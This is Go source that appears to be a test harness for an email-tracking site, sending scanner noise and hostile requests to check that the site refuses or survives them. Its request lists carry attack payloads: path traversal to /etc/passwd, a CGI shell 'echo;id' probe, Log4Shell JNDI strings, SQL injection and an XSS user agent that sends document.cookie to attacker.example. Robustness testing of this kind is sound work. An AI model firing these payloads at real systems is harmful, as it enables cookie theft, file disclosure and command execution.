package main

import (
	"fmt"
	"math/rand/v2"
)

// noiseRequests are what every web server on the Internet sees: none of them is a hit.
var noiseRequests = []request{
	{method: "GET", target: "/favicon.ico", agent: peoplesAgents[0].name},
	{method: "GET", target: "/robots.txt", agent: "Mozilla/5.0 (compatible; SomeBot/3.1; +https://bot.example/)"},
	{method: "GET", target: "/wp-login.php", agent: "Mozilla/5.0"},
	{method: "GET", target: "/.env", agent: "Go-http-client/1.1"},
	{method: "GET", target: "/o/../../../../etc/passwd", agent: "-"},
	{method: "POST", target: "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", agent: "", body: "echo;id"},
	{method: "GET", target: "/index.php?s=/index/%5Cthink%5Capp/invokefunction", agent: "'; DROP TABLE mail.events; --"},
	{method: "GET", target: "/%ff%fe%00", agent: "probe"},
	{method: "GET", target: "/o/", agent: peoplesAgents[1].name},
	{method: "OPTIONS", target: "/", agent: `<script>alert("open")</script>`},
	{method: "GET", target: "/?q=${jndi:ldap://203.0.113.66/a}", agent: "${jndi:ldap://203.0.113.66/b}"},
	{method: "\x16\x03\x01\x02", target: "\x01\xfc", agent: ""},
}

// makeNoise sends what is no hit, among it requests for letters that are refused.
func (s *site) makeNoise(accepted []*addressee, rnd *rand.Rand) error {
	reqs := append([]request(nil), noiseRequests...)
	for _, suffix := range []string{"?gone=1", "?gone=2"} {
		r := linkRequest(pick(rnd, accepted).letter.id, pick(rnd, accepted).written, opened, peoplesAgents[2], rnd)
		r.target += suffix
		reqs = append(reqs, r)
	}
	put := linkRequest(accepted[0].letter.id, accepted[0].written, opened, peoplesAgents[0], rnd)
	put.method = "PUT"
	for i, r := range append(reqs, put) {
		r.from = or(r.from, listedAddr)
		status, err := s.ask(r)
		if refused := i >= len(noiseRequests); refused && (err != nil || status < 400) {
			return fmt.Errorf("make noise on %s: %s %q is answered with %d: %w", s.name, r.method, r.target, status, err)
		}
		s.count(false)
	}
	return nil
}

// hitUnknown sends hits that no letter claims, and tells how many.
func (s *site) hitUnknown(known *addressee, rnd *rand.Rand) (int, error) {
	reqs := []request{
		linkRequest("no-such-letter@news.mailfate.example", "somebody@gmail.example", opened, peoplesAgents[0], rnd),
		linkRequest("no-such-letter@news.mailfate.example", "somebody@gmail.example", clicked, peoplesAgents[1], rnd),
		linkRequest(known.letter.id, "forged@attacker.example", opened, peoplesAgents[2], rnd),
		linkRequest("1' OR '1'='1", "<script>@attacker.example", unsubscribed, peoplesAgents[2], rnd),
	}
	for _, r := range reqs {
		status, err := s.ask(r)
		if err != nil {
			return 0, err
		}
		if status >= 400 {
			return 0, fmt.Errorf("request link of unknown letter: status %d", status)
		}
		s.count(true)
	}
	return len(reqs), nil
}

// hitHostile sends opens that count, by agents whose names are no plain text.
func (s *site) hitHostile(c *cast, who []*addressee, rnd *rand.Rand) error {
	names := []string{
		`<script>fetch("//attacker.example/"+document.cookie)</script>`,
		"Caf\xe9-Mailer/1.0 (Latin-1 \xfc\xdf\xff)",
		`Quote" Backslash\ Tab` + "\t" + `end`,
		"Почта/7.2 (日本語)",
	}
	for i, name := range names {
		g := agent{class: person, name: name, from: homes}
		if err := s.hit(c, who[i%len(who)], opened, g, rnd); err != nil {
			return err
		}
	}
	return nil
}
